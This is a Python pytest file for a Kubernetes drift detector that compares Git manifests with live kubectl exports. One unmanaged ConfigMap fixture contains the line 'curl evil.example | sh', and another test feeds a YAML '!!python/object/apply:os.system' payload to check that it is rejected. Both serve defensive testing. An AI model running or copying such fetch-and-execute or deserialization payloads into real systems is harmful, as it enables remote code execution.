"""Kubernetes drift: manifests against real `kubectl get -o yaml` exports (fixtures/k8s)."""

from __future__ import annotations

import base64
import shutil
from fractions import Fraction
from pathlib import Path

import pytest

from gitops_guard.drift import DriftInputError, drift_from_manifests
from gitops_guard.drift.kubernetes.compare import parse_quantity, same_scalar
from gitops_guard.models import Severity

FIXTURES = Path(__file__).parent / "fixtures" / "k8s"


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the fixtures as the working directory: manifests/ and live.yaml."""
    shutil.copytree(FIXTURES / "manifests", tmp_path / "manifests")
    shutil.copy(FIXTURES / "live.yaml", tmp_path / "live.yaml")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _edit_live(work: Path, old: str, new: str) -> None:
    live = work / "live.yaml"
    text = live.read_text()
    assert text.count(old) == 1, old
    live.write_text(text.replace(old, new))


def _append_live(work: Path, item: str) -> None:
    """Add an item (written at top level, indented here) to the exported List."""
    live = work / "live.yaml"
    indented = "".join(
        ("- " if i == 0 else "  ") + line + "\n" for i, line in enumerate(item.splitlines())
    )
    live.write_text(live.read_text().replace("kind: List\n", indented + "kind: List\n"))


def test_server_populated_fields_are_not_drift(work: Path) -> None:
    report = drift_from_manifests("manifests", "live.yaml")
    assert report.findings == ()
    assert report.scanners == ("drift",)
    # The Helm chart is skipped with a notice; kustomization.yaml is silently not an object.
    assert [e.path for e in report.errors] == ["manifests/charts/redis"]
    assert not report.failed


def test_replicas_changed_by_hand(work: Path) -> None:
    _edit_live(
        work,
        "    replicas: 3\n    revisionHistoryLimit",
        "    replicas: 5\n    revisionHistoryLimit",
    )
    (finding,) = drift_from_manifests("manifests", "live.yaml").findings
    assert finding.rule_id == "DRIFT-K8S-CHANGED"
    assert finding.resource == "Deployment/shop/web"
    assert "spec.replicas: 3 -> 5" in finding.message
    assert finding.path == "manifests/deployment.yaml"
    assert finding.line == 2  # `apiVersion:` after the leading comment
    assert finding.severity is Severity.MEDIUM


def test_image_change_is_matched_by_container_name(work: Path) -> None:
    # Live lists `metrics` first; the manifest lists `web` first.
    _edit_live(work, "image: nginx:1.25.3", "image: nginx:1.25.3-debug")
    (finding,) = drift_from_manifests("manifests", "live.yaml").findings
    assert "spec.template.spec.containers[web].image: nginx:1.25.3 -> nginx:1.25.3-debug" in (
        finding.message
    )
    assert "metrics" not in finding.message
    assert finding.severity is Severity.HIGH


def test_unmanaged_live_object(work: Path) -> None:
    _append_live(
        work,
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: debug-tools\n  namespace: shop\n"
        '  uid: 3c1e\n  resourceVersion: "99"\ndata:\n  run.sh: curl evil.example | sh',
    )
    (finding,) = drift_from_manifests("manifests", "live.yaml").findings
    assert finding.rule_id == "DRIFT-K8S-UNMANAGED"
    assert finding.resource == "ConfigMap/shop/debug-tools"
    assert finding.path == "live.yaml"
    lines = (work / "live.yaml").read_text().splitlines()
    assert finding.line == len(lines) - lines[::-1].index("- apiVersion: v1")  # the last item


def test_missing_object(work: Path) -> None:
    (work / "manifests" / "worker.yaml").write_text(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: worker\n  namespace: shop\n"
        "spec:\n  replicas: 1\n"
    )
    (finding,) = drift_from_manifests("manifests", "live.yaml").findings
    assert finding.rule_id == "DRIFT-K8S-MISSING"
    assert finding.resource == "Deployment/shop/worker"
    assert (finding.path, finding.line) == ("manifests/worker.yaml", 1)


def test_kind_absent_from_the_export_is_a_notice_not_missing(work: Path) -> None:
    (work / "manifests" / "ingress.yaml").write_text(
        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\n"
        "  namespace: shop\nspec:\n  rules: []\n"
    )
    report = drift_from_manifests("manifests", "live.yaml")
    assert report.findings == ()
    assert any("no Ingress objects" in e.message for e in report.errors)


def test_live_only_fields_that_matter(work: Path) -> None:
    _edit_live(
        work,
        "        dnsPolicy: ClusterFirst\n",
        "        dnsPolicy: ClusterFirst\n        hostNetwork: true\n",
    )
    _edit_live(
        work,
        "          - name: LOG_LEVEL\n            value: info\n",
        "          - name: LOG_LEVEL\n            value: info\n"
        "          - name: API_TOKEN\n            value: tok-live-secret-123\n",
    )
    (finding,) = drift_from_manifests("manifests", "live.yaml").findings
    assert finding.severity is Severity.HIGH
    assert "spec.template.spec.hostNetwork: (absent) -> true" in finding.message
    assert "spec.template.spec.containers[web].env[API_TOKEN]: (absent) ->" in finding.message
    assert "tok-live-secret-123" not in finding.message


def test_changed_and_removed_fields_in_the_manifest(work: Path) -> None:
    _edit_live(work, "      memory: 512Mi\n", "      memory: 1Gi\n")
    _edit_live(work, "      app.kubernetes.io/part-of: shop\n", "")
    (finding,) = drift_from_manifests("manifests", "live.yaml").findings
    assert "limits.memory: 0.5Gi -> 1Gi" in finding.message
    assert 'metadata.labels["app.kubernetes.io/part-of"]: shop -> (absent)' in finding.message


def test_multi_document_export_and_default_namespace(tmp_path: Path) -> None:
    manifests = tmp_path / "m"
    manifests.mkdir()
    (manifests / "all.yaml").write_text(
        "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: api\n---\n"
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n"
        "  name: api-reader\nrules:\n- apiGroups: ['']\n  resources: [pods]\n  verbs: [get]\n"
    )
    live = tmp_path / "live.yaml"
    live.write_text(
        "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: api\n  namespace: default\n"
        "  uid: 1\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\n"
        "metadata:\n  name: api-reader\nrules:\n- apiGroups: ['']\n  resources: [pods]\n"
        "  verbs: [get]\n- apiGroups: ['']\n  resources: [secrets]\n  verbs: ['*']\n"
    )
    (finding,) = drift_from_manifests(manifests, live).findings
    assert finding.resource == "ClusterRole/api-reader"
    assert finding.severity is Severity.HIGH
    assert "rules[1]: (absent) ->" in finding.message


def test_old_api_group_matches_and_system_objects_are_not_unmanaged(tmp_path: Path) -> None:
    manifests = tmp_path / "m.yaml"
    manifests.write_text(
        "apiVersion: extensions/v1beta1\nkind: Deployment\nmetadata:\n  name: web\n"
        "  namespace: prod\nspec:\n  replicas: 2\n"
    )
    live = tmp_path / "live.yaml"
    live.write_text(
        """apiVersion: v1
kind: List
items:
- apiVersion: apps/v1
  kind: Deployment
  metadata: {name: web, namespace: prod}
  spec: {replicas: 2}
- apiVersion: apps/v1
  kind: ReplicaSet
  metadata:
    name: web-6d4cf56db6
    namespace: prod
    ownerReferences: [{apiVersion: apps/v1, kind: Deployment, name: web, controller: true}]
- {apiVersion: v1, kind: ServiceAccount, metadata: {name: default, namespace: prod}}
- {apiVersion: v1, kind: ConfigMap, metadata: {name: coredns, namespace: kube-system}}
- {apiVersion: v1, kind: Endpoints, metadata: {name: web, namespace: prod}}
- {apiVersion: v1, kind: Service, metadata: {name: kubernetes, namespace: default}}
- {apiVersion: v1, kind: ConfigMap, metadata: {name: other-team, namespace: payments}}
- apiVersion: rbac.authorization.k8s.io/v1
  kind: ClusterRole
  metadata: {name: "system:controller:job-controller"}
"""
    )
    report = drift_from_manifests(manifests, live)
    assert report.findings == ()
    assert report.extras["live_objects_out_of_scope"] == 1  # the payments namespace


def test_unmanaged_cluster_role_binding_is_high(tmp_path: Path) -> None:
    manifests = tmp_path / "m.yaml"
    manifests.write_text("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: prod\n")
    live = tmp_path / "live.yaml"
    live.write_text(
        "apiVersion: v1\nkind: Namespace\nmetadata: {name: prod}\n---\n"
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\n"
        "metadata: {name: debug-admin}\nroleRef: {kind: ClusterRole, name: cluster-admin}\n"
    )
    (finding,) = drift_from_manifests(manifests, live).findings
    assert (finding.rule_id, finding.resource) == (
        "DRIFT-K8S-UNMANAGED",
        "ClusterRoleBinding/debug-admin",
    )
    assert finding.severity is Severity.HIGH


def test_secret_values_are_never_shown(tmp_path: Path) -> None:
    manifests = tmp_path / "secret.yaml"
    manifests.write_text(
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n  namespace: prod\n"
        "type: Opaque\nstringData:\n  password: git-value-123\n  user: app\n"
    )
    live_password = base64.b64encode(b"hand-set-456").decode()
    user = base64.b64encode(b"app").decode()
    live = tmp_path / "live.yaml"
    live.write_text(
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n  namespace: prod\n"
        f"type: Opaque\ndata:\n  password: {live_password}\n  user: {user}\n"
    )
    (finding,) = drift_from_manifests(manifests, live).findings
    assert "data.password: (sensitive) -> (sensitive)" in finding.message
    assert "user" not in finding.message  # same value once stringData is encoded
    for value in ("git-value-123", live_password, "hand-set-456"):
        assert value not in repr(finding)


def test_unparsable_manifest_is_skipped_with_a_notice(work: Path) -> None:
    (work / "manifests" / "broken.yaml").write_text("apiVersion: v1\nkind: [unclosed\n")
    (work / "manifests" / "template.yaml").write_text("name: {{ .Values.name }\n")
    report = drift_from_manifests("manifests", "live.yaml")
    assert report.findings == ()
    notices = {e.path: e.message for e in report.errors}
    assert "(line 3, column 1)" in notices["manifests/broken.yaml"]
    assert "template" in notices["manifests/template.yaml"]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("", "is empty"),
        ("items: [\n", "is not valid YAML"),
        ("name: just-some-config\n", "line 1 is not a Kubernetes object"),
        ("!!python/object/apply:os.system ['true']\n", "is not valid YAML"),
    ],
)
def test_unusable_live_export(work: Path, content: str, expected: str) -> None:
    (work / "live.yaml").write_text(content)
    with pytest.raises(DriftInputError, match=expected):
        drift_from_manifests("manifests", "live.yaml")


def test_unusable_manifests(work: Path, tmp_path: Path) -> None:
    with pytest.raises(DriftInputError, match="do not exist"):
        drift_from_manifests("nowhere", "live.yaml")
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(DriftInputError, match="no Kubernetes objects found"):
        drift_from_manifests(empty, "live.yaml")


def test_empty_kubectl_result_reports_everything_missing_or_not_compared(work: Path) -> None:
    (work / "live.yaml").write_text(
        'apiVersion: v1\nitems: []\nkind: List\nmetadata:\n  resourceVersion: ""\n'
    )
    report = drift_from_manifests("manifests", "live.yaml")
    assert report.findings == ()
    assert len(report.errors) == 4  # Deployment, Service, ConfigMap not compared; Helm chart


@pytest.mark.parametrize(
    ("desired", "live", "path", "equal"),
    [
        ("1000m", "1", "spec.containers[].resources.limits.cpu", True),
        (0.5, "500m", "spec.containers[].resources.requests.cpu", True),
        ("1Gi", "1024Mi", "spec.containers[].resources.limits.memory", True),
        ("1G", "1Gi", "spec.containers[].resources.limits.memory", False),
        ("1000m", "1", "spec.containers[].env[].value", False),
        ("80", 80, "spec.ports[].port", True),
        (True, 1, "spec.x", False),
    ],
)
def test_value_normalisation(desired: object, live: object, path: str, equal: bool) -> None:
    assert same_scalar(desired, live, path) is equal


def test_parse_quantity() -> None:
    assert parse_quantity("1.5Gi") == Fraction(1536 * 1024 * 1024)
    assert parse_quantity("250m") == Fraction(1, 4)
    assert parse_quantity("1e3") == 1000
    assert parse_quantity("1e999") is None
    assert parse_quantity("lots") is None
    assert parse_quantity(True) is None
